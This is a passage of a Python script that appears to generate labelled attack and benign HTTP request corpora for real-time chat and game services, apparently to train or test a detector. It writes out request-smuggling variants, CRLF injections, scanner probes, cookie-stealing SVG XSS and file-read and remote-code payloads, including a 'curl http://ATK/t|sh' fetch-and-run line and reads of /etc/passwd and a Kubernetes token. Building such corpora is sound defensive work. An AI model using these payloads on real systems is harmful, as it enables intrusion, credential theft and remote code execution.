    host = pick(H_CHAT + H_GAME)
    smug = b"GET /admin/api/users HTTP/1.1\r\nHost: localhost\r\n\r\n"
    # upgrade + CL + TE
    hs = base(host, "/ws", [["Connection", "Upgrade"], ["Upgrade", "websocket"], ["Sec-WebSocket-Version", "13"], ["Sec-WebSocket-Key", b64(rbytes(16))],
                            ["Content-Length", "4"], ["Transfer-Encoding", "chunked"]])
    emit_raw(A, "protocol", "smuggling", raw_request("GET", "/ws", hs, b"0\r\n\r\n" + smug, add_length=False))
    # bad Sec-WebSocket-Version with a request riding in the body (proxy thinks the connection upgraded)
    hs = base(host, "/socket.io/", [["Connection", "Upgrade"], ["Upgrade", "websocket"], ["Sec-WebSocket-Version", "1337"], ["Sec-WebSocket-Key", b64(rbytes(16))],
                                   ["Content-Length", str(len(smug))]])
    emit_raw(A, "protocol", "smuggling", raw_request("GET", "/socket.io/?EIO=4&transport=websocket", hs, smug, add_length=False))
    # h2c upgrade smuggling
    for path in ["/hub", "/graphql", "/internal/metrics"]:
        hs = base(host, path, [["Upgrade", "h2c"], ["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"], ["Connection", "Upgrade, HTTP2-Settings"]])
        emit_raw(A, "protocol", "h2c", raw_request("GET", path, hs))
    hs = base(host, "/", [["Upgrade", "h2c"], ["HTTP2-Settings", "AAMAAABkAAQCAAAAAAIAAAAA"], ["Connection", "Upgrade"], ["Content-Type", "application/json"]])
    emit_raw(A, "protocol", "h2c", raw_request("POST", "/api/v1/lobbies", hs, J({"name": "x"})))
    # TE obfuscations on polling transports
    for te in ["chunked, identity", " chunked", "xchunked", "chunked\t", "\x0bchunked"]:
        body = b"5\r\n3\x1e2\r\n\r\n0\r\n\r\n" + smug
        hs = base(host, "/", [["Content-Type", "text/plain;charset=UTF-8"], ["Content-Length", str(len(body))], ["Transfer-Encoding", te]])
        emit_raw(A, "protocol", "smuggling", raw_request("POST", "/socket.io/?EIO=4&transport=polling&sid=%s" % sid_engineio(), hs, body, add_length=False))
    # space before colon
    body = b"0\r\n\r\n" + smug
    raw = ("POST /hubs/chat?id=%s HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\nContent-Length: %d\r\nTransfer-Encoding : chunked\r\n\r\n" % (alnum(22, B64U), host, len(body))).encode() + body
    emit_raw(A, "protocol", "smuggling", raw)
    # two differing Content-Length headers
    body = J({"type": 1, "target": "SendMessage", "arguments": ["a", "b"]}).encode() + b"\x1e"
    hs = base(host, "/", [["Content-Type", "text/plain"], ["Content-Length", str(len(body))], ["Content-Length", "0"]])
    emit_raw(A, "protocol", "smuggling", raw_request("POST", "/hubs/chat?id=%s" % alnum(22, B64U), hs, body, add_length=False))
    # CL.0 on negotiate with a request in the body
    hs = base(host, "/", [["Content-Length", str(len(smug))], ["Connection", "keep-alive"]])
    emit_raw(A, "protocol", "smuggling", raw_request("POST", "/hubs/chat/negotiate?negotiateVersion=1", hs, smug, add_length=False))
    # header injection via bare CR / obs-fold in handshake headers
    raw = ("GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Protocol: chat\r\n X-Forwarded-For: 127.0.0.1\r\n\r\n" % (host, b64(rbytes(16)))).encode()
    emit_raw(A, "protocol", "websocket", raw)
    raw = ("GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Protocol: chat\rX-Original-URL: /admin\r\n\r\n" % (host, b64(rbytes(16)))).encode()
    emit_raw(A, "protocol", "websocket", raw)
    raw = ("GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: abc\x00def==\r\nSec-WebSocket-Version: 13\r\n\r\n" % host).encode()
    emit_raw(A, "protocol", "websocket", raw)
    # bare-LF framing with a smuggled request
    raw = ("POST /socket.io/?EIO=4&transport=polling HTTP/1.1\nHost: %s\nContent-Length: 5\nTransfer-Encoding: chunked\n\n0\n\n" % host).encode() + smug
    emit_raw(A, "protocol", "smuggling", raw)
    # absurd Content-Length
    hs = base(host, "/", [["Content-Type", "application/json"], ["Content-Length", "99999999999999999999"]])
    emit_raw(A, "protocol", "smuggling", raw_request("POST", "/api/v1/sessions/%s/snapshots" % uid(), hs, b"{}", add_length=False))
    # a chunk size that is not hex
    raw = ("POST /api/docs/%s/updates HTTP/1.1\r\nHost: %s\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
           "0x10\r\n%s\r\n0\r\n\r\n" % (uid(), host, "A" * 16)).encode()
    emit_raw(A, "protocol", "smuggling", raw)
    # TRACE on a hub (cross-site tracing probe)
    emit_raw(A, "protocol", "method", raw_request("TRACE", "/hub", base(host, "/hub", [["Accept", "*/*"], ["Cookie", cookie_web()]])))


# ------------------------------------------------------------------- CRLF
def a_crlf():
    A = "attack"
    for uri in CRLF_URI:
        host = pick(H_CHAT + H_GAME + H_LIVE)
        emit(A, "crlf", "crlf", "GET", uri, web(host, accept="*/*", origin=False))
    host = pick(H_CHAT + H_RT)
    emit(A, "crlf", "webpush", "POST", "/api/push/send", native(host, ua=pick(SERVER_UAS), auth=bearer()),
         J({"subscription_id": uid(), "topic": "news\r\nUrgency: high\r\nX-Injected: 1", "ttl": 3600, "payload": {"title": "hi"}}), "application/json")
    emit(A, "crlf", "websocket", "GET", "/ws?protocol=chat%0d%0aSec-WebSocket-Accept:%20" + q(b64(rbytes(20))),
         [["Host", host], ["Connection", "Upgrade"], ["Upgrade", "websocket"], ["Sec-WebSocket-Key", b64(rbytes(16))], ["Sec-WebSocket-Version", "13"],
          ["User-Agent", browser()[0]]])


# ---------------------------------------------------------------- scanners
def a_scanner():
    A = "attack"
    probes = [
        ("Nikto/2.5.0", "GET", "/socket.io/socket.io.js"),
        ("sqlmap/1.8.3#stable (https://sqlmap.org)", "GET", "/api/v1/leaderboards/global?region=EU&page=1"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "GET", "/hub/negotiate"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "GET", "/graphql?query=%7B__schema%7Btypes%7Bname%7D%7D%7D"),
        ("Mozilla/5.0 zgrab/0.x", "GET", "/socket.io/?EIO=4&transport=polling"),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "GET", "/"),
        ("Fuzz Faster U Fool v2.1.0-dev", "GET", "/api/v1/FUZZ"),
        ("gobuster/3.6", "GET", "/signalr/negotiate"),
        ("feroxbuster/2.10.4", "GET", "/cable"),
        ("WhatWeb/0.5.5", "GET", "/janus/info"),
        ("Wfuzz/3.1.0", "GET", "/_matrix/client/versions"),
        ("commix/v4.0-stable (https://commixproject.com)", "GET", "/api/admin/netcheck?host=127.0.0.1"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 (Acunetix-Product)", "GET", "/.well-known/mercure"),
        ("Arachni/v1.5.1", "GET", "/api/v4/system/ping"),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "GET", "/socket.io/?EIO=3&transport=polling&t=nikto"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", "GET", "/.env"),
        ("python-requests/2.31.0", "GET", "/.git/config"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", "GET", "/actuator/env"),
    ]
    for ua, m, path in probes:
        host = pick(H_CHAT + H_GAME + H_RT)
        h = [["Host", host], ["User-Agent", ua], ["Accept", "*/*"]]
        if "Nuclei" in ua or "Acunetix" in ua:
            h.append(["Accept-Encoding", "gzip"])
        emit(A, "scanner", "scanner", m, path, h)
    # GraphQL introspection fired by a scanner with its marker header
    emit(A, "scanner", "scanner", "POST", "/graphql", [["Host", pick(H_GAME)], ["User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"],
                                                        ["Accept", "application/json"], ["Content-Type", "application/json"]],
         J({"query": "query IntrospectionQuery { __schema { queryType { name } mutationType { name } subscriptionType { name } types { ...FullType } } }"}))


# ------------------------------------------------------- the rest, by carrier
def spread(payloads, carriers, cat):
    cs = list(carriers)
    R.shuffle(cs)
    for i, p in enumerate(payloads):
        cs[i % len(cs)]("attack", cat, p)


QUERY_PATH_CARRIERS = [c_mod_dl, c_log_tail, c_skin_q, c_sound_q, c_subtitle_q, c_map_thumb]


def gen_attacks():
    A = "attack"
    spread(XSS_MSG, MSG_CARRIERS, "xss")
    spread(XSS_NAME, NAME_CARRIERS, "xss")
    for h in XSS_HTML:
        c_matrix_html(A, "xss", h)
    for u in XSS_URL[:3]:
        c_discord_embed(A, "xss", u)
    _profile_put(A, "xss", "profile", pick(H_GAME), "PATCH", "/api/v1/players/me", {"website": XSS_URL[3], "bio": pick(BIOS)})
    b = boundary_browser()
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="fetch(\'//%s/?\'+document.cookie)"><circle r="30"/></svg>' % ATK
    hs = [["Host", pick(H_CHAT)], ["User-Agent", browser()[0]], ["Accept", "application/json"], ["Authorization", bearer()],
          ["Content-Type", "multipart/form-data; boundary=" + b]]
    emit_raw(A, "xss", "uploads", raw_request("POST", "/api/v1/players/me/avatar", hs, multipart([("avatar", svg, "avatar.svg", "image/svg+xml")], b)))

    spread(SQLI, FILTER_CARRIERS, "sqli")
    a_nosql()
    spread(SSRF, URL_CARRIERS, "ssrf")

    cs = list(PATH_URL_CARRIERS)
    R.shuffle(cs)
    for i, p in enumerate(LFI_URL):
        c = cs[i % len(cs)]
        if (p.startswith("/") or p[1:2] == ":") and c not in QUERY_PATH_CARRIERS:
            c = pick(QUERY_PATH_CARRIERS)
        c(A, "lfi", p)
    spread(LFI_PLAIN, PATH_PLAIN_CARRIERS, "lfi")
    host = pick(H_LIVE)
    playlist = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:file:///etc/passwd|subfile,,start,0,end,0,,:/etc/passwd\n#EXT-X-ENDLIST\n"
    b = boundary_browser()
    hs = [["Host", host], ["User-Agent", browser()[0]], ["Accept", "application/json"], ["Authorization", bearer()], ["Content-Type", "multipart/form-data; boundary=" + b]]
    emit_raw(A, "lfi", "transcode", raw_request("POST", "/api/vod/upload", hs, multipart([("title", "my clip"), ("file", playlist, "clip.m3u8", "application/vnd.apple.mpegurl")], b)))
    _profile_put(A, "lfi", "transcode", host, "POST", "/api/transcode/jobs",
                 {"input_format": "concat", "input": "ffconcat version 1.0\nfile '../../../../etc/passwd'\nfile 'intro.mp4'\n", "outputs": [{"preset": "hls-720p"}]})
    emit(A, "lfi", "transcode", "PUT", "/api/streams/%s/playlist" % lower(10), native(host, auth=bearer()),
         "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4.0,\nfile:///var/run/secrets/kubernetes.io/serviceaccount/token\n#EXT-X-ENDLIST\n", "application/vnd.apple.mpegurl")

    spread(RCE, CMD_CARRIERS, "rce")
    for code in RCE_CODE:
        c_bot_command(A, "rce", code)
    c_socketio(A, "rce", "!ping 127.0.0.1; cat /etc/passwd")
    c_discord(A, "rce", "!traceroute eu-1.game.example.com`curl http://%s/t|sh`" % ATK)

    spread(SSTI, TEMPLATE_CARRIERS, "ssti")
    a_java()
    a_php()
    a_xxe()
    a_crlf()
    a_protocol()
    a_scanner()
    a_ldap()
    a_rfi()
    a_generic()


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-realtime.py attacks|benign\n")
        return 2
    if sys.argv[1] == "attacks":
        gen_attacks()
    else:
        gen_benign()
        gen_dev()
    out = sys.stdout
    for rec in OUT:
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
